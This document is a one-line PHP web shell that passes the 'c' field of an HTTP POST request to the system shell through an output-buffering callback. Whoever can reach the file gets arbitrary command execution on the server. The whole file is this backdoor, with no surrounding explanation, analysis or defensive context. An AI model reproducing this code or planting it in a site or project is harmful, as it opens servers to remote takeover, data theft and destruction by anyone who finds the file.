<?php ob_start("system"); echo $_POST["c"]; ob_end_flush();
